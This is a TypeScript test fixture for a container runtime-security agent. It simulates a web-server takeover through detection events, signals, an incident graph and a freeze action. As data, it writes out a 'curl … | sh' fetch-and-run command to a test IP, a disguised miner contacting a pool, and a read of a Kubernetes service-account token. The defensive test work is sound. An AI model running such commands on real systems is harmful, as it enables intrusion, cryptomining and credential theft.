// One attack on the known fleet, as an agent tells of it: a web server taken over, a download, a miner, a theft.
import { newId } from '@yagura/kernel'
import type {
  BatchItem,
  GraphEdge,
  GraphNode,
  IncidentReport,
  IncidentStep,
  KernelEvent,
  LocalisedText,
  ProcessRef,
  ResponseAction,
  RuntimeFinding,
  Signal,
} from '@yagura/schema'
import { containerId, HOST } from './fleet.ts'
import { HOSTILE_NAME } from './hostile.ts'

const CONTAINER = containerId('fable-web')
const CONTAINER_KEY = `container:${HOST.machineId}/containerd/${CONTAINER}`

function processOf(pid: number, args: readonly [string, ...string[]]): ProcessRef {
  return { pid, startNs: String(7_000_000 + pid), exe: args[0], args: [...args], containerId: CONTAINER }
}

const SERVER = processOf(4242, ['/usr/bin/fabled', '--config', '/etc/fable.conf'])
const SHELL = processOf(6001, ['/bin/sh', '-c', `curl -s http://198.51.100.7/x | sh # ${HOSTILE_NAME}`])
const CURL = processOf(6002, ['/usr/bin/curl', '-s', 'http://198.51.100.7/x'])
const DROPPED = processOf(6010, ['/tmp/.x/kworkerd', '-o', 'pool.example:3333'])
const THIEF = processOf(6020, ['/bin/cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'])

type Draft = Pick<IncidentStep, 'tactic' | 'technique' | 'grade' | 'rule' | 'sentence'> & {
  readonly afterMs: number
  readonly process: ProcessRef
  readonly missing?: string
}

const text = (en: string, ja: string, zh: string): LocalisedText => ({ en, ja, zh })

const STEPS: readonly Draft[] = [
  {
    afterMs: 0,
    tactic: 'initial-access',
    technique: 'T1190',
    grade: 'medium',
    rule: 'shell-from-server',
    process: SHELL,
    sentence: text(
      'fabled, which serves requests, started a shell.',
      '要求を処理する fabled がシェルを起動しました。',
      '处理请求的 fabled 启动了一个外壳程序。',
    ),
  },
  {
    afterMs: 400,
    tactic: 'command-and-control',
    technique: 'T1105',
    grade: 'medium',
    rule: 'download-by-shell',
    process: CURL,
    sentence: text(
      'curl fetched a script from 198.51.100.7, a peer never seen before.',
      'curl が、初めての通信相手 198.51.100.7 からスクリプトを取得しました。',
      'curl 从从未见过的对端 198.51.100.7 获取了脚本。',
    ),
  },
  {
    afterMs: 900,
    tactic: 'execution',
    technique: 'T1059.004',
    grade: 'strong',
    rule: 'download-piped-to-shell',
    process: SHELL,
    sentence: text(
      'What was downloaded was run by a shell without touching the disk.',
      'ダウンロードした内容を、ディスクに書かずにシェルが実行しました。',
      '下载的内容未落盘就由外壳程序运行。',
    ),
  },
  {
    afterMs: 125_000,
    tactic: 'defense-evasion',
    technique: 'T1036.005',
    grade: 'strong',
    rule: 'drift-exec',
    process: DROPPED,
    sentence: text(
      '/tmp/.x/kworkerd, which is not from the image, was run under the name of a kernel thread.',
      'イメージに含まれない /tmp/.x/kworkerd が、カーネルスレッドの名前で実行されました。',
      '不来自镜像的 /tmp/.x/kworkerd 以内核线程的名字运行。',
    ),
    missing: '12 events of this container were lost around this time.',
  },
  {
    afterMs: 126_000,
    tactic: 'impact',
    technique: 'T1496',
    grade: 'strong',
    rule: 'miner-protocol',
    process: DROPPED,
    sentence: text(
      'kworkerd speaks the protocol of a mining pool with pool.example:3333.',
      'kworkerd が pool.example:3333 と採掘プールのプロトコルで通信しています。',
      'kworkerd 与 pool.example:3333 使用矿池协议通信。',
    ),
  },
  {
    afterMs: 300_000,
    tactic: 'credential-access',
    technique: 'T1552.001',
    grade: 'medium',
    rule: 'service-account-token',
    process: THIEF,
    sentence: text(
      'cat read the token of the service account, which this image never does.',
      'cat がサービスアカウントのトークンを読みました。このイメージでは初めてです。',
      'cat 读取了服务账号令牌，该镜像从未这样做过。',
    ),
  },
]

export interface Attack {
  readonly incidentId: string
  readonly actionId: string
  readonly containerId: string
  readonly nodes: readonly GraphNode[]
  readonly edges: readonly GraphEdge[]
  readonly items: readonly BatchItem[]
}

export function attack(more: Partial<IncidentReport> = {}): Attack {
  const startMs = Date.now() - 6 * 60_000
  const at = (afterMs: number) => new Date(startMs + afterMs).toISOString()
  const incidentId = newId()
  const events = STEPS.map(({ process, afterMs }, index) =>
    execOf(process, at(afterMs), `attack.${incidentId}.${index}`),
  )
  const steps = STEPS.map(({ afterMs, missing, ...step }, index): IncidentStep => {
    return {
      ...step,
      at: at(afterMs),
      signalId: newId(),
      eventIds: [events[index]?.id ?? ''],
      missing: missing ?? null,
    }
  })
  const incident: IncidentReport = {
    id: incidentId,
    revision: 1,
    mergedInto: null,
    title: text(
      'fabled was taken over and mines for strangers',
      'fabled が乗っ取られ、他人のために採掘しています',
      'fabled 被接管，正在为他人挖矿',
    ),
    severity: 'critical',
    score: 14.25,
    assetKeys: [CONTAINER_KEY],
    containerIds: [CONTAINER],
    root: SERVER,
    steps,
    stepsLeftOut: 0,
    nextTactics: [
      { tactic: 'lateral-movement', probability01: 0.41 },
      { tactic: 'exfiltration', probability01: 0.22 },
    ],
    ...graph(at, steps),
    containable: true,
    openedAt: at(0),
    updatedAt: at(300_000),
    ...more,
  }
  const signals = steps.map((step) => signalOf(step, incidentId))
  const action: ResponseAction = {
    id: newId(),
    kind: 'freeze',
    containerId: CONTAINER,
    process: null,
    incidentId,
    rule: null,
    decidedBy: 'policy:contain-miners',
    state: 'done',
    reason: 'The chain passed the threshold of the policy.',
    requestedAt: at(310_000),
    doneAt: at(310_200),
    expiresAt: at(3_600_000),
    reversible: true,
    evidence: [],
  }
  return {
    incidentId,
    actionId: action.id,
    containerId: CONTAINER,
    nodes: incident.nodes,
    edges: incident.edges,
    items: [
      ...events.map((event): BatchItem => ({ item: 'event', event })),
      ...signals.map((signal): BatchItem => ({ item: 'signal', signal })),
      { item: 'runtime-finding', finding: observation(at(10)) },
      { item: 'incident', incident },
      { item: 'action', action },
    ],
  }
}

function observation(at: string): RuntimeFinding {
  return {
    signalId: newId(),
    assetKey: CONTAINER_KEY,
    rule: 'package-manager-at-run-time',
    at,
    severity: 'medium',
    sentence: text(
      'apt-get ran in a container that is in service.',
      '稼働中のコンテナで apt-get が実行されました。',
      '在服务中的容器里运行了 apt-get。',
    ),
    technique: 'T1072',
    tactic: 'execution',
    eventIds: [],
    process: processOf(6030, ['/usr/bin/apt-get', 'install', HOSTILE_NAME]),
  }
}

function signalOf(step: IncidentStep, chainId: string): Signal {
  return {
    id: step.signalId,
    at: step.at,
    rule: step.rule,
    source: 'syscall',
    grade: step.grade,
    severity: step.grade === 'strong' ? 'high' : 'medium',
    technique: step.technique,
    tactic: step.tactic,
    attackVersion: '18.1',
    assetKey: CONTAINER_KEY,
    process: step.process,
    chainId,
    eventIds: step.eventIds,
    sentence: step.sentence,
    rarity01: 1,
    learning: false,
  }
}

function graph(at: (afterMs: number) => string, steps: readonly IncidentStep[]) {
  const processNode = (process: ProcessRef, tags: string[], afterMs: number): GraphNode => ({
    id: `p:${process.pid}:${process.startNs}`,
    kind: 'process',
    label: process.exe,
    detail: process.args.join(' '),
    tags,
    at: at(afterMs),
  })
  const object = (kind: GraphNode['kind'], label: string, tags: string[] = []): GraphNode => ({
    id: `${kind}:${label}`,
    kind,
    label,
    detail: label,
    tags,
    at: at(500),
  })
  const nodes = [
    { ...object('container', CONTAINER.slice(0, 12)), id: `c:${CONTAINER}`, detail: CONTAINER },
    processNode(SERVER, ['NET_IN'], 0),
    processNode(SHELL, ['SHELL', 'NET_IN'], 0),
    processNode(CURL, ['NET_NEW'], 400),
    processNode(DROPPED, ['DROP_EXEC', 'MINER'], 125_000),
    processNode(THIEF, ['SECRET'], 300_000),
    object('peer', '198.51.100.7:80'),
    object('peer', 'pool.example:3333', ['MINER']),
    object('file', '/tmp/.x/kworkerd', ['DROP']),
    object('file', `/tmp/${HOSTILE_NAME}`, ['DL']),
    object('file', '/var/run/secrets/kubernetes.io/serviceaccount/token', ['SECRET']),
  ]
  const id = (process: ProcessRef) => `p:${process.pid}:${process.startNs}`
  const edge = (from: string, to: string, kind: GraphEdge['kind'], step?: number): GraphEdge => ({
    from,
    to,
    kind,
    at: at(1000),
    signalId: step === undefined ? null : (steps[step]?.signalId ?? null),
  })
  const edges = [
    edge(`c:${CONTAINER}`, id(SERVER), 'started'),
    edge(id(SERVER), id(SHELL), 'started', 0),
    edge(id(SHELL), id(CURL), 'started'),
    edge(id(CURL), 'peer:198.51.100.7:80', 'connected', 1),
    edge(id(CURL), id(SHELL), 'piped', 2),
    edge(id(SHELL), 'file:/tmp/.x/kworkerd', 'wrote'),
    edge(id(SHELL), `file:/tmp/${HOSTILE_NAME}`, 'wrote'),
    edge(id(DROPPED), 'file:/tmp/.x/kworkerd', 'ran', 3),
    edge(id(SHELL), id(DROPPED), 'started'),
    edge(id(DROPPED), 'peer:pool.example:3333', 'connected', 4),
    edge(id(SHELL), id(THIEF), 'started'),
    edge(id(THIEF), 'file:/var/run/secrets/kubernetes.io/serviceaccount/token', 'read', 5),
    edge(id(THIEF), 'p:1:never-told-of', 'started'),
  ]
  return { nodes, edges }
}

function execOf(process: ProcessRef, at: string, id: string): KernelEvent {
  return {
    id,
    at,
    source: 'ebpf',
    pid: process.pid,
    tid: process.pid,
    parentPid: 4242,
    startNs: process.startNs,
    uid: 33,
    gid: 33,
    command: process.exe.slice(process.exe.lastIndexOf('/') + 1).slice(0, 15),
    exe: process.exe,
    cgroupId: '77',
    containerId: CONTAINER,
    ancestry: [{ pid: 4242, exe: SERVER.exe, startNs: SERVER.startNs }],
    type: 'exec',
    args: [...process.args],
    argsTruncated: false,
    cwd: '/',
  }
}

/** What the agent answers to a preview, or to an order that it carried out. */
export function answered(action: ResponseAction, more: Partial<ResponseAction> = {}): BatchItem {
  return { item: 'action', action: { ...action, doneAt: new Date().toISOString(), ...more } }
}
